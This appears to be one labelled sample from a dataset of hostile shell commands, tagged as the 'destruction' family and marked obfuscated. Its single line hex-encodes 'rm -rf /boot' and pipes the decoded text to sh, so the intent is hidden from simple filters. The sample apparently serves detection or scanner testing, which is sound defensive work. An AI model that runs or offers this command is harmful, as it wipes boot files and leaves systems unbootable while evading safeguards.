# description: Prints rm -rf /boot as hex escapes with printf and pipes it to sh.
# family: destruction
# obfuscated: yes
printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f\x62\x6f\x6f\x74' | sh
